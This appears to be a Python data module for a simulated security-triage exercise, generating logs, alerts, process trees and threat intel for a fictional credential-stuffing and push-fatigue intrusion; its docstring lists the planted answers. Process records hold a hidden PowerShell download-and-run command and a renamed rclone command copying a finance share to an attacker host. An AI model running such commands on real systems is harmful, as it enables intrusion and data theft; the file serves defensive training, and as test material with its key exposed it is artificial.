"""The world of the `security-triage` session: the night of 2024-11-13 at
Lumenbrook Capital (Oslo, UTC+01:00), as the SOC sees it at 04:30.

Planted:
- 01:04-02:40 a credential-stuffing run against the ADFS/Entra sign-in page
  from Tor exits of 185.220.101.0/24 (AS60729): 41 accounts, the exit
  rotating every two minutes or so over 38 addresses; the SIEM's spray alert
  keeps only its first 50 events as samples, which come from three exits
  (.47, .52, .133), so a block list built from the alert is three /32s.
- j.doe (Julian Doe, treasury) had 11 failures from .47/.52, then at 02:41
  signed in himself through the company VPN (193.36.128.17, in the
  protected range 193.36.128.0/25) from his own laptop FIN-LT-0142: the
  rule "successful sign-in after multiple failures" fires on him and names
  him in its summary. A false positive.
- j.dae (Jae-won Dae, finance operations; laptop FIN-LT-0124) is the real
  victim: 9 failures, then the leaked password worked and 6 MFA pushes were
  denied (the MFA alert), the 7th approved at 02:47:33 (push fatigue). The
  session sess-7e41b0c9a35d was then used from a Hetzner VPS
  (2a01:4f8:c17:3b2::1) for SharePoint downloads and a Remote Desktop
  Gateway connection to FIN-LT-0124, where PowerShell fetched a script from
  cdn-msupdate-sync.com and ran a repacked rclone (svchst.exe) that copied
  the October close folder of the finance share to 49.12.180.33.
  The "success after failures" rule missed him: only 9 password failures.
- k.lund's password also worked (2 failures, then 3 MFA denials): no
  session, but the password is known.
- look-alikes: j.doe / j.dae, FIN-LT-0142 / FIN-LT-0124, 185.220.101.47 /
  185.220.101.52, the repacked rclone's hash and the official rclone
  1.66.0 build's (IT's backup box IT-ADM-007 runs it), differing in the last
  characters.
Deterministic: tool.py and answers.py read it."""
import datetime as dt
import json
from toolkit import crc  # gen/long/, on the path of every importer

TZ = dt.timezone(dt.timedelta(hours=1))
AS_OF = "2024-11-13T04:30:00+01:00"
NIGHT = ("2024-11-13T00:00:00+01:00", "2024-11-13T06:00:00+01:00")
DOMAIN = "lumenbrook.com"
STS = "sts.lumenbrook.com"


def at(hms, ms=0):
    h, m, s = map(int, hms.split(":"))
    return dt.datetime(2024, 11, 13, h, m, s, ms * 1000, tzinfo=TZ)


def iso(t, ms=True):
    if ms:
        return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03d+01:00" % (t.microsecond // 1000)
    return t.strftime("%Y-%m-%dT%H:%M:%S+01:00")


def parse_ts(s):
    return dt.datetime.fromisoformat(s)


# --- networks ---------------------------------------------------------------------------------

PROTECTED = [
    {"cidr": "193.36.128.0/25", "name": "HQ egress and GlobalProtect VPN pool"},
    {"cidr": "193.36.129.64/27", "name": "DR site Bergen"},
    {"cidr": "2a0c:5bc0:12::/48", "name": "HQ IPv6"},
]
VPN_IP = "193.36.128.17"
TOR_NET = "185.220.101.0/24"
TOR_ASN = 60729
TOR_ORG = "Stiftung Erneuerbare Freiheit"
IP47 = "185.220.101.47"
IP52 = "185.220.101.52"
IP133 = "185.220.101.133"
V6 = "2a01:4f8:c17:3b2::1"
V6_NET = "2a01:4f8:c17:3b2::/64"
EXFIL_IP = "49.12.180.33"
HETZNER = (24940, "Hetzner Online GmbH")
EVIL_DOMAIN = "cdn-msupdate-sync.com"
EVIL_URL = "https://cdn-msupdate-sync.com/u/upd.ps1"

UA_ATTACK = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/119.0.0.0 Safari/537.36")
UA_OUTLOOK = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)"
UA_EDGE = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.68")

_others = sorted({(crc("exit", k) % 250) + 3 for k in range(120)} - {47, 52, 133})
_picked = sorted(_others, key=lambda o: crc("rot", o))[:35]
ROTATION = [IP47, IP52, IP133] * 7 + ["185.220.101.%d" % o for o in _picked]
TOR_IPS = sorted(set(ROTATION), key=lambda ip: int(ip.split(".")[-1]))
assert len(TOR_IPS) == 38, len(TOR_IPS)

# --- people, hosts, sessions ----------------------------------------------------------------

JDOE = "j.doe@lumenbrook.com"
JDAE = "j.dae@lumenbrook.com"
KLUND = "k.lund@lumenbrook.com"
HOST_DOE = "FIN-LT-0142"
HOST_DAE = "FIN-LT-0124"
SESS_DOE = "sess-2f9c81d04b7e"
SESS_ATT = "sess-7e41b0c9a35d"
SESS_DAE_OWN = "sess-9a0d33e7c512"
DEV_DOE = "dev-8a21d4c7"
DEV_DAE = "dev-3f70be19"
RDG_CLIENT = "DESKTOP-8J2QK1M"

USERS = {
    JDOE: {"upn": JDOE, "display_name": "Julian Doe", "department": "Treasury", "title": "Treasury analyst",
           "manager": "m.aasen@lumenbrook.com", "hosts": [HOST_DOE], "status": "enabled",
           "groups": ["GL-Treasury", "VPN-Users", "SP-Treasury-RW"], "mfa_methods": ["authenticator-push"],
           "last_password_change": "2024-08-29"},
    JDAE: {"upn": JDAE, "display_name": "Jae-won Dae", "department": "Finance Operations",
           "title": "Senior accountant", "manager": "h.solberg@lumenbrook.com", "hosts": [HOST_DAE],
           "status": "enabled", "groups": ["GL-FinOps", "FS-Finance-Close-RW", "SP-Finance-Close-RW", "RDG-Users"],
           "mfa_methods": ["authenticator-push"], "last_password_change": "2023-02-14"},
    KLUND: {"upn": KLUND, "display_name": "Kari Lund", "department": "Accounts Payable", "title": "AP specialist",
            "manager": "h.solberg@lumenbrook.com", "hosts": ["FIN-LT-0188"], "status": "enabled",
            "groups": ["GL-AP", "SP-AP-RW"], "mfa_methods": ["authenticator-number-match"],
            "last_password_change": "2023-11-02"},
}

_FIRST = "abcdefghijklmnoprstv"
_LAST = ["holm", "berg", "strand", "vik", "moe", "haug", "lie", "dahl", "eide", "bakke", "sande", "aune", "tveit",
         "nygaard", "rud", "lunde", "myhre", "foss", "krog", "hagen", "brekke", "solli", "vold", "lien", "ask",
         "brun", "dale", "roald", "engen", "lyng", "storm", "borg", "nes", "kvam", "grimstad"]
SPRAY_USERS = sorted({"%s.%s@%s" % (_FIRST[crc("f", n) % len(_FIRST)], n, DOMAIN) for n in _LAST})
SPRAY_USERS = [u for u in SPRAY_USERS if u not in (JDOE, JDAE, KLUND)][:35] + \
    ["admin@lumenbrook.com", "test.user@lumenbrook.com", "t.wiik@lumenbrook.com"]
GONE = {"test.user@lumenbrook.com": "user_not_found", "admin@lumenbrook.com": "user_not_found",
        "t.wiik@lumenbrook.com": "account_disabled"}
assert len(SPRAY_USERS) == 38

# --- the sign-in log -----------------------------------------------------------------------------

SPRAY_START, SPRAY_END = at("01:04:12"), at("02:39:50")


def _row(t, user, ip, result, reason, mfa, app="ADFS", session=None, device=None, device_name=None, ua=UA_ATTACK,
         auth="interactive"):
    if ip.startswith("185.220.101."):
        asn, country = TOR_ASN, "DE"
    elif ip in (V6, EXFIL_IP):
        asn, country = HETZNER[0], "DE"
    else:
        asn, country = 213041, "NO"
    return {"ts": iso(t), "user": user, "ip": ip, "port": 40000 + crc("port", user, iso(t)) % 25000, "asn": asn,
            "country": country, "app": app, "auth": auth, "result": result, "failure_reason": reason, "mfa": mfa,
            "session_id": session, "device_id": device, "device_name": device_name, "user_agent": ua}


def _signins():
    rows = []
    # the spray: 35 real accounts x 3-4 attempts and 3 dead ones x 2, spread evenly, the exit rotating
    attempts = []
    for u in SPRAY_USERS:
        n = 2 if u in GONE else 3 + crc("n", u) % 2
        attempts += [(u, k) for k in range(n)]
    attempts.sort(key=lambda a: crc("ord", a[0], a[1]))
    span = (SPRAY_END - SPRAY_START).total_seconds()
    for k, (u, _) in enumerate(attempts):
        t = SPRAY_START + dt.timedelta(seconds=span * k / (len(attempts) - 1), milliseconds=crc("ms", k) % 1000)
        ip = ROTATION[k * len(ROTATION) // len(attempts)]
        rows.append(_row(t, u, ip, "failure", GONE.get(u, "invalid_password"), None))
    # k.lund: the password works on the third try, number matching denied three times
    for i, hms in enumerate(["01:31:40", "01:32:55"]):
        rows.append(_row(at(hms, 310 + i), KLUND, IP133, "failure", "invalid_password", None))
    for i, hms in enumerate(["01:34:12", "01:35:03", "01:36:21"]):
        rows.append(_row(at(hms, 520 + i), KLUND, IP133, "failure", "mfa_denied", "number-match denied"))
    # j.dae: 9 failures, 6 pushes denied, the 7th approved
    for i in range(9):
        t = at("01:52:07") + dt.timedelta(seconds=190 * i, milliseconds=crc("jd", i) % 1000)
        rows.append(_row(t, JDAE, IP52 if i % 3 else IP47, "failure", "invalid_password", None))
    for hms in ["02:22:13", "02:26:48", "02:31:02", "02:35:40", "02:40:19", "02:46:02"]:
        rows.append(_row(at(hms, crc("deny", hms) % 1000), JDAE, IP52, "failure", "mfa_denied", "push denied"))
    rows.append(_row(at("02:47:33", 418), JDAE, IP52, "success", None, "push approved", app="Office 365 Portal",
                     session=SESS_ATT))
    for hms, app in [("02:58:10", "SharePoint Online"), ("03:12:40", "Remote Desktop Gateway"),
                     ("03:44:51", "SharePoint Online")]:
        rows.append(_row(at(hms, crc("tok", hms) % 1000), JDAE, V6, "success", None, "satisfied by token", app=app,
                         session=SESS_ATT, auth="token"))
    # j.doe: 11 failures from two exits, then his own sign-in through the VPN
    for i in range(11):
        t = at("02:05:31") + dt.timedelta(seconds=181 * i, milliseconds=crc("jo", i) % 1000)
        rows.append(_row(t, JDOE, IP47 if i % 2 else IP52, "failure", "invalid_password", None))
    rows.append(_row(at("02:41:09", 77), JDOE, VPN_IP, "success", None, "push approved", app="Outlook",
                     session=SESS_DOE, device=DEV_DOE, device_name=HOST_DOE, ua=UA_OUTLOOK))
    rows.append(_row(at("00:12:44", 902), JDOE, VPN_IP, "success", None, "satisfied by token", app="Teams",
                     session="sess-51c0e7a2d9f3", device=DEV_DOE, device_name=HOST_DOE, ua=UA_EDGE, auth="token"))
    rows.sort(key=lambda r: r["ts"])
    return rows


SIGNINS = _signins()

# active sessions at AS_OF (what a revoke kills)
ACTIVE_SESSIONS = {
    JDAE: [{"session_id": SESS_DAE_OWN, "created": "2024-11-12T08:31:17+01:00", "ip": "193.36.128.41",
            "device_id": DEV_DAE, "device_name": HOST_DAE},
           {"session_id": SESS_ATT, "created": "2024-11-13T02:47:33+01:00", "ip": V6, "device_id": None,
            "device_name": None}],
    JDOE: [{"session_id": SESS_DOE, "created": "2024-11-13T02:41:09+01:00", "ip": VPN_IP, "device_id": DEV_DOE,
            "device_name": HOST_DOE}],
    KLUND: [],
}

# --- hashes ----------------------------------------------------------------------------------------

H_EVIL = "9f2c4e1ab7d05c3e8f61a2b94d7e0c35f18a6b2d9e4c07f3a51b86d2c0e41c9a"
H_RCLONE = "9f2c4e1ab7d05c3e8f61a2b94d7e0c35f18a6b2d9e4c07f3a51b86d2c0e417f3"
H_PWSH = "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c"
H_CMD = "b99d114b267ffd068c3289199b6df95a9f9e64872d6c2b666d63974bbce75bf2"
H_NET = "25c8266e2bc1d5626dcdf72419838b397d28d3d00a4c9d2fe8b6dd5b4f5c2e13"
H_EXPLORER = "4d4a2c7e3f8b1e0c9a7d6b5e4f3a2c1b0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b"
H_OUTLOOK = "7a1c5e9b3d2f4a6c8e0b1d3f5a7c9e2b4d6f8a0c1e3b5d7f9a2c4e6b8d0f1a3c"
H_TEAMS = "e3b1d5f7a9c2e4b6d8f0a1c3e5b7d9f2a4c6e8b0d1f3a5c7e9b2d4f6a8c0e1b3"
H_ONEDRIVE = "5f0e2d4c6b8a1f3e5d7c9b2a4f6e8d0c1b3a5f7e9d2c4b6a8f0e1d3c5b7a9f2e"
H_IME = "c2a4e6b8d0f1a3c5e7b9d2f4a6c8e0b1d3f5a7c9e2b4d6f8a0c1e3b5d7f9a2c4"
for _h in (H_EVIL, H_RCLONE, H_PWSH, H_CMD, H_NET, H_EXPLORER, H_OUTLOOK, H_TEAMS, H_ONEDRIVE, H_IME):
    assert len(_h) == 64, _h
assert H_EVIL[:60] == H_RCLONE[:60] and H_EVIL != H_RCLONE

TEMP = r"C:\Users\j.dae\AppData\Local\Temp"
SHARE = r"\\fs01.corp.lumenbrook.com\finance$\Close\2024-10"
CMD_PS = ('powershell.exe -nop -w hidden -c "iwr https://cdn-msupdate-sync.com/u/upd.ps1 -OutFile '
          '$env:TEMP\\upd.ps1; & $env:TEMP\\upd.ps1"')
CMD_RCLONE = ('"%s\\svchst.exe" copy "%s" s3x:lb-bkp-1113/fin --transfers 8 --config "%s\\rc.conf" '
              '--no-check-certificate' % (TEMP, SHARE, TEMP))
CMD_IME = ('powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files (x86)\\Microsoft Intune '
           'Management Extension\\Policies\\Scripts\\a3c1f2_detect.ps1"')

PROCS = {
    HOST_DAE: [
        {"pid": 1288, "ppid": 812, "name": "svchost.exe", "user": "NT AUTHORITY\\NETWORK SERVICE",
         "start": "2024-11-12T08:29:51.004+01:00", "cmdline": "C:\\Windows\\System32\\svchost.exe -k termsvcs",
         "sha256": "643ec58e82e0272c97c2a59f6020970d881af19c0ad5029db9c958c13b6558c7"},
        {"pid": 5980, "ppid": 1288, "name": "rdpinit.exe", "user": "LUMENBROOK\\j.dae",
         "start": "2024-11-13T03:12:58.611+01:00", "cmdline": "rdpinit.exe",
         "sha256": "0a6ff2b5d4c1e8f3a7b9d2c4e6f8a1b3c5d7e9f2a4b6c8d0e1f3a5b7c9d2e4f6"},
        {"pid": 6612, "ppid": 5980, "name": "explorer.exe", "user": "LUMENBROOK\\j.dae",
         "start": "2024-11-13T03:13:02.145+01:00", "cmdline": "C:\\Windows\\explorer.exe", "sha256": H_EXPLORER},
        {"pid": 7304, "ppid": 6612, "name": "powershell.exe", "user": "LUMENBROOK\\j.dae",
         "start": "2024-11-13T03:15:40.877+01:00", "cmdline": CMD_PS, "sha256": H_PWSH,
         "network": [{"dst": V6, "port": 443, "domain": EVIL_DOMAIN, "bytes_in": 48213}]},
        {"pid": 7356, "ppid": 7304, "name": "cmd.exe", "user": "LUMENBROOK\\j.dae",
         "start": "2024-11-13T03:15:52.230+01:00", "cmdline": "cmd.exe /c whoami /all > %TEMP%\\w.txt",
         "sha256": H_CMD},
        {"pid": 7412, "ppid": 7304, "name": "net.exe", "user": "LUMENBROOK\\j.dae",
         "start": "2024-11-13T03:16:05.502+01:00", "cmdline": 'net.exe group "Domain Admins" /domain',
         "sha256": H_NET},
        {"pid": 7488, "ppid": 7304, "name": "svchst.exe", "user": "LUMENBROOK\\j.dae",
         "start": "2024-11-13T03:20:58.093+01:00", "cmdline": CMD_RCLONE, "sha256": H_EVIL,
         "original_filename": "rclone.exe", "signer": None,
         "network": [{"dst": EXFIL_IP, "port": 443, "domain": "s3.cdn-msupdate-sync.com", "bytes_out": 2009381742}]},
        {"pid": 7530, "ppid": 7304, "name": "cmd.exe", "user": "LUMENBROOK\\j.dae",
         "start": "2024-11-13T03:39:41.318+01:00", "cmdline": "cmd.exe /c del /q %TEMP%\\upd.ps1 %TEMP%\\w.txt",
         "sha256": H_CMD},
    ],
    HOST_DOE: [
        {"pid": 4410, "ppid": 4388, "name": "explorer.exe", "user": "LUMENBROOK\\j.doe",
         "start": "2024-11-12T22:58:14.330+01:00", "cmdline": "C:\\Windows\\Explorer.EXE", "sha256": H_EXPLORER},
        {"pid": 3120, "ppid": 812, "name": "Microsoft.Management.Services.IntuneWindowsAgent.exe",
         "user": "NT AUTHORITY\\SYSTEM", "start": "2024-11-12T22:57:40.118+01:00",
         "cmdline": "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe\"",
         "sha256": H_IME},
        {"pid": 9012, "ppid": 3120, "name": "powershell.exe", "user": "NT AUTHORITY\\SYSTEM",
         "start": "2024-11-13T00:47:08.772+01:00", "cmdline": CMD_IME, "sha256": H_PWSH},
        {"pid": 5544, "ppid": 4410, "name": "OUTLOOK.EXE", "user": "LUMENBROOK\\j.doe",
         "start": "2024-11-13T02:40:51.906+01:00",
         "cmdline": "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", "sha256": H_OUTLOOK},
        {"pid": 5630, "ppid": 4410, "name": "ms-teams.exe", "user": "LUMENBROOK\\j.doe",
         "start": "2024-11-12T23:02:10.447+01:00", "cmdline": "ms-teams.exe --system-initiated", "sha256": H_TEAMS},
        {"pid": 5702, "ppid": 4410, "name": "OneDrive.exe", "user": "LUMENBROOK\\j.doe",
         "start": "2024-11-12T22:58:20.015+01:00", "cmdline": "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
         "sha256": H_ONEDRIVE},
    ],
}
HASH_SIGHTINGS = {
    H_EVIL: [{"host": HOST_DAE, "path": TEMP + "\\svchst.exe", "first_seen": "2024-11-13T03:20:41.552+01:00",
              "last_seen": "2024-11-13T03:38:47.901+01:00", "executions": 1, "user": "LUMENBROOK\\j.dae"}],
    H_RCLONE: [{"host": "IT-ADM-007", "path": "C:\\Tools\\rclone\\rclone.exe", "first_seen": "2024-06-03T10:14:02.000+01:00",
                "last_seen": "2024-11-13T01:00:05.218+01:00", "executions": 163, "user": "LUMENBROOK\\svc-backup"}],
}

# --- file access ------------------------------------------------------------------------------------

_SP_FILES = ["Board pack Q3 2024.pdf", "Cash forecast W46.xlsx", "Vendor bank details 2024-Q4.xlsx",
             "Payroll export 2024-10.xlsx", "Intercompany recon 2024-10.xlsx", "Audit PBC list 2024.xlsx",
             "Bank mandates 2024.pdf", "Loan covenants tracker.xlsx", "FX hedges open 2024-11.xlsx",
             "Budget 2025 draft v3.xlsx", "Treasury limits.docx", "Close calendar 2024.xlsx",
             "AP aging 2024-10.xlsx", "Signatories list.pdf"]
_SMB_DIRS = ["GL", "AP", "AR", "Payroll", "Bank", "Recon"]


def _files():
    out = []
    for i, name in enumerate(_SP_FILES):
        t = at("02:58:14") + dt.timedelta(seconds=41 * i, milliseconds=crc("sp", i) % 1000)
        out.append({"ts": iso(t), "channel": "sharepoint", "action": "FileDownloaded",
                    "path": "/sites/Finance-Close/Shared Documents/%s" % name, "bytes": 180000 + crc("b", name) % 2400000,
                    "ip": V6, "session_id": SESS_ATT, "host": None, "process": None})
    for i in range(86):
        d = _SMB_DIRS[i % len(_SMB_DIRS)]
        t = at("03:21:02") + dt.timedelta(seconds=12 * i, milliseconds=crc("smb", i) % 1000)
        out.append({"ts": iso(t), "channel": "smb", "action": "read",
                    "path": "%s\\%s\\%s_%03d.xlsx" % (SHARE, d, d.lower(), 101 + i // 6),
                    "bytes": 9000000 + crc("sb", i) % 30000000, "ip": None, "session_id": None, "host": HOST_DAE,
                    "process": "svchst.exe"})
    return out


FILES = _files()

# --- alerts ----------------------------------------------------------------------------------------


def _raw_signin(r):
    d = {"@timestamp": r["ts"], "event.action": "user-signin", "event.outcome": r["result"],
         "reason": r["failure_reason"], "user.name": r["user"], "source.ip": r["ip"], "source.port": r["port"],
         "source.as.number": r["asn"], "source.geo.country_iso_code": r["country"],
         "user_agent.original": r["user_agent"], "app": r["app"], "mfa": r["mfa"], "session.id": r["session_id"],
         "destination.domain": STS}
    return json.dumps({k: v for k, v in d.items() if v is not None}, separators=(",", ":"))


SPRAY_ROWS = [r for r in SIGNINS if r["asn"] == TOR_ASN and r["result"] == "failure"]
ALERTS = [
    {"alert_id": "ALRT-7731936", "created": "2024-11-13T00:47:31+01:00", "severity": "low",
     "rule": "EDR - PowerShell execution policy bypass", "entity": HOST_DOE, "source": "edr"},
    {"alert_id": "ALRT-7731942", "created": "2024-11-13T01:12:44+01:00", "severity": "high",
     "rule": "IdP - Password spray from single ASN", "entity": "AS%d" % TOR_ASN, "source": "idp"},
    {"alert_id": "ALRT-7731947", "created": "2024-11-13T01:36:30+01:00", "severity": "medium",
     "rule": "IdP - Excessive failed sign-ins for user", "entity": KLUND, "source": "idp"},
    {"alert_id": "ALRT-7731951", "created": "2024-11-13T01:58:20+01:00", "severity": "low",
     "rule": "WAF - Rate limit exceeded on /adfs/ls", "entity": IP47, "source": "waf"},
    {"alert_id": "ALRT-7731955", "created": "2024-11-13T02:31:40+01:00", "severity": "medium",
     "rule": "IdP - MFA push denied repeatedly", "entity": JDAE, "source": "idp"},
    {"alert_id": "ALRT-7731961", "created": "2024-11-13T02:30:00+01:00", "severity": "info",
     "rule": "Vuln scanner - scheduled scan started", "entity": "10.20.0.15", "source": "scanner"},
    {"alert_id": "ALRT-7731968", "created": "2024-11-13T02:41:30+01:00", "severity": "high",
     "rule": "IdP - Successful sign-in after multiple failures", "entity": JDOE, "source": "idp"},
    {"alert_id": "ALRT-7731979", "created": "2024-11-13T03:13:05+01:00", "severity": "medium",
     "rule": "RDG - New client device for remote desktop", "entity": HOST_DAE, "source": "rdg"},
    {"alert_id": "ALRT-7731990", "created": "2024-11-13T03:21:12+01:00", "severity": "critical",
     "rule": "EDR - Renamed rclone execution", "entity": HOST_DAE, "source": "edr"},
    {"alert_id": "ALRT-7731994", "created": "2024-11-13T03:38:55+01:00", "severity": "high",
     "rule": "DLP - Large outbound transfer", "entity": HOST_DAE, "source": "dlp"},
]
ALERTS.sort(key=lambda a: a["alert_id"])


def _alert_events():
    ev = {}
    ev["ALRT-7731942"] = [_raw_signin(r) for r in SPRAY_ROWS]
    ev["ALRT-7731947"] = [_raw_signin(r) for r in SIGNINS if r["user"] == KLUND]
    ev["ALRT-7731955"] = [_raw_signin(r) for r in SIGNINS if r["user"] == JDAE and r["failure_reason"] == "mfa_denied"]
    ev["ALRT-7731968"] = [_raw_signin(r) for r in SIGNINS if r["user"] == JDOE and r["ts"] >= "2024-11-13T02"]
    waf = []
    for i, hms in enumerate(["01:57:02", "01:57:19", "01:57:41", "01:58:03", "01:58:16"]):
        waf.append(json.dumps({"@timestamp": iso(at(hms, 120 + 37 * i)), "event.action": "rate-limit",
                               "source.ip": IP47, "http.request.method": "POST",
                               "url.path": "/adfs/ls/", "http.response.status_code": 429, "rule.id": "RL-ADFS-30",
                               "user_agent.original": UA_ATTACK}, separators=(",", ":")))
    ev["ALRT-7731951"] = waf
    ev["ALRT-7731936"] = [json.dumps({"@timestamp": "2024-11-13T00:47:08.772+01:00", "host.name": HOST_DOE,
                                      "process.pid": 9012, "process.parent.name": "Microsoft.Management.Services.IntuneWindowsAgent.exe",
                                      "process.command_line": CMD_IME, "process.hash.sha256": H_PWSH,
                                      "user.name": "NT AUTHORITY\\SYSTEM"}, separators=(",", ":"))]
    ev["ALRT-7731961"] = [json.dumps({"@timestamp": "2024-11-13T02:30:00.000+01:00", "scanner": "nessus-02",
                                      "source.ip": "10.20.0.15", "policy": "weekly-internal"}, separators=(",", ":"))]
    ev["ALRT-7731979"] = [json.dumps({"@timestamp": "2024-11-13T03:12:41.206+01:00", "event.action": "rdg-connect",
                                      "user.name": "LUMENBROOK\\j.dae", "source.ip": V6, "client.name": RDG_CLIENT,
                                      "destination.address": "%s.corp.lumenbrook.com" % HOST_DAE,
                                      "destination.port": 3389, "session.id": SESS_ATT, "gateway": "rdg.lumenbrook.com",
                                      "first_seen_client": True}, separators=(",", ":"))]
    ev["ALRT-7731990"] = [json.dumps({"@timestamp": "2024-11-13T03:20:58.093+01:00", "host.name": HOST_DAE,
                                      "process.pid": 7488, "process.parent.pid": 7304,
                                      "process.parent.name": "powershell.exe", "process.name": "svchst.exe",
                                      "process.pe.original_file_name": "rclone.exe",
                                      "process.executable": TEMP + "\\svchst.exe",
                                      "process.command_line": CMD_RCLONE, "process.hash.sha256": H_EVIL,
                                      "process.code_signature.exists": False, "user.name": "LUMENBROOK\\j.dae"},
                                     separators=(",", ":"))]
    ev["ALRT-7731994"] = [json.dumps({"@timestamp": "2024-11-13T03:38:47.901+01:00", "host.name": HOST_DAE,
                                      "process.name": "svchst.exe", "destination.ip": EXFIL_IP,
                                      "destination.port": 443, "tls.client.server_name": "s3.cdn-msupdate-sync.com",
                                      "network.bytes_out": 2009381742, "window.start": "2024-11-13T03:21:02+01:00",
                                      "window.end": "2024-11-13T03:38:47+01:00", "dlp.policy": "FIN-BULK-EGRESS"},
                                     separators=(",", ":"))]
    return ev


ALERT_EVENTS = _alert_events()
ALERT_SUMMARY = {
    "ALRT-7731936": "powershell.exe -ExecutionPolicy Bypass on %s (parent IntuneWindowsAgent)" % HOST_DOE,
    "ALRT-7731942": "%d failed sign-ins for %d accounts from AS%d between 01:04 and 02:47" % (
        len(SPRAY_ROWS), len({r["user"] for r in SPRAY_ROWS}), TOR_ASN),
    "ALRT-7731947": "%s: 5 failed sign-ins in 5 min" % KLUND,
    "ALRT-7731951": "%s: 5 requests answered 429 on /adfs/ls/" % IP47,
    "ALRT-7731955": "%s: 6 MFA pushes denied" % JDAE,
    "ALRT-7731961": "nessus-02 weekly-internal scan of 10.20.0.0/16",
    "ALRT-7731968": "%s: 11 failed sign-ins, then success at 2024-11-13T02:41:09+01:00" % JDOE,
    "ALRT-7731979": "%s connected to %s through rdg.lumenbrook.com from a new client" % (JDAE, HOST_DAE),
    "ALRT-7731990": "svchst.exe (original name rclone.exe) started by powershell.exe on %s" % HOST_DAE,
    "ALRT-7731994": "2.0 GB to %s:443 from %s in 18 min" % (EXFIL_IP, HOST_DAE),
}

# --- threat intel ----------------------------------------------------------------------------------


def intel(ind):
    if ind.startswith("185.220.101."):
        sample = [ip for ip in TOR_IPS if ip not in (IP47, IP52)][:6]
        return {"indicator": ind, "type": "ipv4", "verdict": "malicious", "asn": TOR_ASN, "as_org": TOR_ORG,
                "country": "DE", "network": TOR_NET, "tags": ["tor-exit", "credential-attacks"], "abuse_score": 100,
                "first_seen": "2021-03-02", "last_seen": "2024-11-13",
                "note": "Tor exit relay. 41 addresses of %s were reported for credential attacks on ADFS and Entra ID "
                        "sign-in pages in the last 24 h; the attacker's exit rotates within the /24." % TOR_NET,
                "related_ips": sample}
    if ind == V6:
        return {"indicator": ind, "type": "ipv6", "verdict": "suspicious", "asn": HETZNER[0], "as_org": HETZNER[1],
                "country": "DE", "network": "2a01:4f8::/32", "tags": ["hosting", "vps"], "abuse_score": 35,
                "first_seen": "2024-11-11", "last_seen": "2024-11-13",
                "passive_dns": [EVIL_DOMAIN], "note": "VPS; AAAA of %s since 2024-11-10" % EVIL_DOMAIN}
    if ind == EXFIL_IP:
        return {"indicator": ind, "type": "ipv4", "verdict": "malicious", "asn": HETZNER[0], "as_org": HETZNER[1],
                "country": "DE", "network": "49.12.0.0/16", "tags": ["hosting", "exfil-endpoint"], "abuse_score": 60,
                "first_seen": "2024-11-10", "last_seen": "2024-11-13",
                "passive_dns": [EVIL_DOMAIN, "s3." + EVIL_DOMAIN], "note": "S3-compatible storage (MinIO) behind %s" % EVIL_DOMAIN}
    if ind.startswith("193.36.128."):
        return {"indicator": ind, "type": "ipv4", "verdict": "unknown", "asn": 213041, "as_org": "Lumenbrook Capital AS",
                "country": "NO", "network": "193.36.128.0/24", "tags": [], "abuse_score": 0}
    if ind == EVIL_DOMAIN:
        return {"indicator": ind, "type": "domain", "verdict": "malicious", "registered": "2024-11-10",
                "registrar": "NiceNIC International Group Co., Limited", "resolves_to": [V6, EXFIL_IP],
                "tags": ["typosquat-microsoft", "payload-hosting", "exfil"], "first_seen": "2024-11-11",
                "urls": [EVIL_URL, "https://s3.cdn-msupdate-sync.com/lb-bkp-1113/"]}
    if ind == H_EVIL:
        return {"indicator": ind, "type": "sha256", "verdict": "malicious", "names": ["svchst.exe", "wupd.exe"],
                "family": "rclone (repacked)", "description": "UPX-packed rclone v1.66.0 with an embedded config; "
                "used for exfiltration to S3-compatible storage", "first_seen": "2024-11-12",
                "detections": "41/72", "related": [{"sha256": H_RCLONE, "name": "rclone.exe",
                                                   "verdict": "clean", "note": "official rclone v1.66.0 windows-amd64"}]}
    if ind == H_RCLONE:
        return {"indicator": ind, "type": "sha256", "verdict": "clean", "names": ["rclone.exe"],
                "family": "rclone", "description": "official rclone v1.66.0 windows-amd64 release (dual-use)",
                "first_seen": "2024-03-10", "detections": "0/72", "related": []}
    if ind in (H_PWSH, H_CMD, H_NET, H_EXPLORER):
        return {"indicator": ind, "type": "sha256", "verdict": "clean", "names": ["(Microsoft Windows binary)"],
                "family": None, "description": "signed by Microsoft Windows", "detections": "0/72", "related": []}
    return None
